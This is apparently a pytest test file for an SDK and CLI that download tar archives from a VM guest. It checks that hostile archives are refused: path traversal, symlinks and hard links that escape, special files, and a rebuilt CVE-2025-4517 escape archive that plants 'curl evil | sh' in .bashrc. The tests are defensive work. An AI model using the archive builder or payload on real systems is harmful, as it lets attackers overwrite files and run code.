"""A directory's download through the SDK and ``hearth files get``: the tar the API relays comes
from the guest, which user code may have taken over, so each member is checked before it is
written, and only a whole, valid archive is put in place (the answers scripted with
``httpx.MockTransport``, or served on loopback for the CLI).
"""

from __future__ import annotations

import contextlib
import io
import os
import tarfile
from collections.abc import AsyncIterator, Callable, Iterator
from http.server import ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from hearth.sdk import AsyncHearth, Hearth, HearthConnectionError, HearthSdkError
from tests.conftest import hearth_cli
from tests.loopback_api import LOOPBACK, QuietHandler, listening

URL = "http://hearth.test"
VM = (
    b'{"id": "vm-1", "userId": "ann", "vmType": "cli", "status": "ready", "backend": "qemu",'
    b' "vcpus": 1, "memMib": 512, "agentUrl": null, "bootMode": "restore", "diskBytes": null,'
    b' "createdAt": "2026-12-03T20:00:00Z", "readyAt": null, "destroyedAt": null, "error": null}'
)
TAR_HEADERS = {"content-type": "application/x-tar", "x-hearth-file-type": "dir"}
Member = tuple[str, bytes, str, bytes]  # name, tar type, link name, content


def tar_of(*members: Member) -> bytes:
    """A tar (pax) of ``members``, written as given: nothing checked, as a hostile guest sends."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, kind, link, data in members:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, link
            info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
            info.size = len(data) if kind == tarfile.REGTYPE else 0
            archive.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
    return buffer.getvalue()


def file(name: str, data: bytes = b"x") -> Member:
    return (name, tarfile.REGTYPE, "", data)


def folder(name: str) -> Member:
    return (name, tarfile.DIRTYPE, "", b"")


def symlink(name: str, target: str) -> Member:
    return (name, tarfile.SYMTYPE, target, b"")


def hardlink(name: str, target: str) -> Member:
    return (name, tarfile.LNKTYPE, target, b"")


def escaping_tar(local: Path) -> bytes:
    """CVE-2025-4517's archive: symlinks through directories whose names fill PATH_MAX, so
    that ``os.path.realpath`` (and with it the ``data`` filter before Python 3.11.13) stops
    resolving; ``escape`` then leads two levels above ``local``, and ``rc`` is a hard link to
    ``.bashrc`` there that the last member writes through."""
    steps = "abcdefghijklmnop"
    long = "d" * ((os.pathconf("/", "PC_PATH_MAX") - (len(str(local)) + 1)) // (len(steps) + 1))
    members: list[Member] = []
    path = ""
    for step in steps:
        members += [folder(os.path.join(path, long)), symlink(os.path.join(path, step), long)]
        path = os.path.join(path, long)
    deep = os.path.join(*steps, "l" * 254)
    members.append(symlink(deep, os.path.join(*[".."] * len(steps))))
    members.append(symlink("escape", os.path.join(deep, "..", "..")))
    members += [hardlink("rc", "escape/.bashrc"), file("rc", b"curl evil | sh\n")]
    return tar_of(*members)


class Body(httpx.SyncByteStream, httpx.AsyncByteStream):
    """An answer's body: ``data`` in chunks of 4 KiB, then, when ``broken``, a break like a
    dropped connection's."""

    def __init__(self, data: bytes, *, broken: bool) -> None:
        self.chunks = [data[at : at + 4096] for at in range(0, len(data), 4096)]
        self.broken = broken

    def __iter__(self) -> Iterator[bytes]:
        yield from self.chunks
        if self.broken:
            raise httpx.RemoteProtocolError("peer closed connection without sending whole body")

    async def __aiter__(self) -> AsyncIterator[bytes]:
        for chunk in self:
            yield chunk


def serving(payload: bytes, *, broken: bool = False) -> httpx.MockTransport:
    """The API of one VM whose directory ``proj`` comes down as ``payload`` (cut short after
    it when ``broken``)."""

    def handle(request: httpx.Request) -> httpx.Response:
        if request.url.path == "/api/vms/vm-1":
            return httpx.Response(200, content=VM, headers={"content-type": "application/json"})
        assert request.url.path == "/api/vms/vm-1/files"
        return httpx.Response(200, headers=TAR_HEADERS, stream=Body(payload, broken=broken))

    return httpx.MockTransport(handle)


async def download(client: str, payload: bytes, local: Path, *, broken: bool = False) -> Path:
    """``files.download("proj", local)`` with the sync or the async client."""
    transport = serving(payload, broken=broken)
    if client == "sync":
        with Hearth(URL, "k", transport=transport) as sync:
            return sync.vms.get("vm-1").files.download("proj", local)
    async with AsyncHearth(URL, "k", transport=transport) as aclient:
        return await (await aclient.vms.get("vm-1")).files.download("proj", local)


def tree(root: Path) -> dict[str, str]:
    """Each path under ``root``: a file's content, a symlink's target, or ``/`` for a dir."""
    found: dict[str, str] = {}
    for path in sorted(root.rglob("*")):
        rel = str(path.relative_to(root))
        if path.is_symlink():
            found[rel] = f"-> {os.readlink(path)}"
        elif path.is_dir():
            found[rel] = "/"
        else:
            found[rel] = path.read_text()
    return found


CLIENTS = pytest.mark.parametrize("client", ["sync", "async"])


@CLIENTS
async def test_download_refuses_the_cve_2025_4517_tar_and_writes_nothing(
    client: str, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    local = home / "downloads" / "project"
    (home / "downloads").mkdir(parents=True)
    (home / ".bashrc").write_text("# original\n")

    with pytest.raises(HearthSdkError) as refused:
        await download(client, escaping_tar(local), local)

    assert getattr(refused.value, "code", None) == "invalid_archive"
    assert "'a/" in str(refused.value)  # the member below the symlink 'a'
    assert (home / ".bashrc").read_text() == "# original\n"
    assert tree(home) == {".bashrc": "# original\n", "downloads": "/"}


REFUSED = {
    "absolute name": ([file("/etc/evil")], "'/etc/evil' is an absolute path"),
    "name with ..": ([file("sub/../../evil")], "'sub/../../evil' climbs out"),
    "absolute symlink": ([symlink("l", "/etc")], "'l' is a symlink to an absolute path"),
    "symlink climbing out": (
        [folder("a"), symlink("a/l", "../../x")],
        "'a/l' is a symlink that leads out",
    ),
    "symlink with .. after a name": (
        [symlink("l", "d/../..")],
        "'l' is a symlink that leads out",
    ),
    "member below a symlink": (
        [folder("sub"), symlink("l", "sub"), file("l/f")],
        "'l/f' is below a symlink",
    ),
    "hard link to a later file": (
        [hardlink("h", "f"), file("f")],
        "'h' is a hard link to 'f', which is not a file earlier",
    ),
    "hard link to a symlink": (
        [file("f"), symlink("s", "f"), hardlink("h", "s")],
        "'h' is a hard link to 's', which is not a file earlier",
    ),
    "hard link out": ([hardlink("h", "../f")], "'h' is a hard link to '../f', which climbs"),
    "name twice": ([file("f"), file("f", b"again")], "'f' appears twice"),
    "fifo": ([("p", tarfile.FIFOTYPE, "", b"")], "'p' is not a file, directory or link"),
    "device": ([("dev", tarfile.CHRTYPE, "", b"")], "'dev' is not a file, directory or link"),
}


@CLIENTS
@pytest.mark.parametrize("case", list(REFUSED))
async def test_download_refuses_a_member_and_leaves_nothing_behind(
    client: str, case: str, tmp_path: Path
) -> None:
    members, reason = REFUSED[case]
    # Good members first: a refusal after them still leaves nothing.
    payload = tar_of(folder("ok"), file("ok/early", b"early"), *members)

    with pytest.raises(HearthSdkError) as refused:
        await download(client, payload, tmp_path / "into" / "proj")

    assert getattr(refused.value, "code", None) == "invalid_archive"
    assert reason in str(refused.value)
    assert tree(tmp_path) == {"into": "/"}


@CLIENTS
async def test_a_download_broken_mid_stream_leaves_no_partial_tree(
    client: str, tmp_path: Path
) -> None:
    whole = tar_of(*(file(f"f{n}", os.urandom(1024).hex()[:100].encode()) for n in range(20)))
    cut = whole[: len(whole) // 2]

    with pytest.raises(HearthConnectionError) as broken:
        await download(client, cut, tmp_path / "proj", broken=True)

    assert broken.value.code == "stream_broken"
    assert tree(tmp_path) == {}


@CLIENTS
async def test_a_download_into_an_existing_directory_merges_only_a_whole_archive(
    client: str, tmp_path: Path
) -> None:
    local = tmp_path / "proj"
    (local / "sub").mkdir(parents=True)
    (local / "mine.txt").write_text("mine")
    (local / "sub" / "f").write_text("old")
    (local / "clash").write_text("a file here")
    good = tar_of(
        folder("sub"),
        file("sub/f", b"new"),
        file("sub/g", b"g"),
        folder("lib"),
        file("lib/real.so", b"so"),
        symlink("sub/up", "../lib/real.so"),
        hardlink("lib/same.so", "lib/real.so"),
    )

    assert await download(client, good, local) == local

    assert tree(local) == {
        "clash": "a file here",
        "lib": "/",
        "lib/real.so": "so",
        "lib/same.so": "so",
        "mine.txt": "mine",
        "sub": "/",
        "sub/f": "new",
        "sub/g": "g",
        "sub/up": "-> ../lib/real.so",
    }
    before = tree(local)
    # A directory where a file is (or the reverse) is refused before anything moves.
    with pytest.raises(NotADirectoryError):
        await download(client, tar_of(file("sub/f", b"newer"), folder("clash")), local)
    assert tree(local) == before
    assert sorted(os.listdir(tmp_path)) == ["proj"]


# --- hearth files get ------------------------------------------------------------------------


@pytest.fixture
def stub_api() -> Iterator[Callable[[bytes], str]]:
    """Serves on loopback, as the API does for VM ``vm-1``, whose ``proj`` comes down as the
    tar given; the server's URL."""
    with contextlib.ExitStack() as servers:

        def serve(payload: bytes) -> str:
            class Handler(QuietHandler):
                def do_GET(self) -> None:
                    if self.path.startswith("/api/vms/vm-1/files"):
                        self.answer(200, payload, TAR_HEADERS)
                    else:
                        self.answer(200, VM, {"content-type": "application/json"})

            return servers.enter_context(listening(ThreadingHTTPServer(LOOPBACK, Handler)))

        yield serve


def test_hearth_files_get_refuses_an_unsafe_tar_with_its_code(
    stub_api: Callable[[bytes], str], tmp_path: Path
) -> None:
    payload = tar_of(folder("sub"), symlink("l", "sub"), file("l/f"), file("ok", b"ok"))
    env = {"HEARTH_URL": stub_api(payload), "HEARTH_API_KEY": "k"}

    got = hearth_cli("files", "get", "vm-1", "proj", str(tmp_path / "back"), env=env, timeout=60)

    assert got.returncode == 1
    assert "invalid_archive" in got.stderr
    assert "'l/f' is below a symlink" in got.stderr
    assert os.listdir(tmp_path) == []
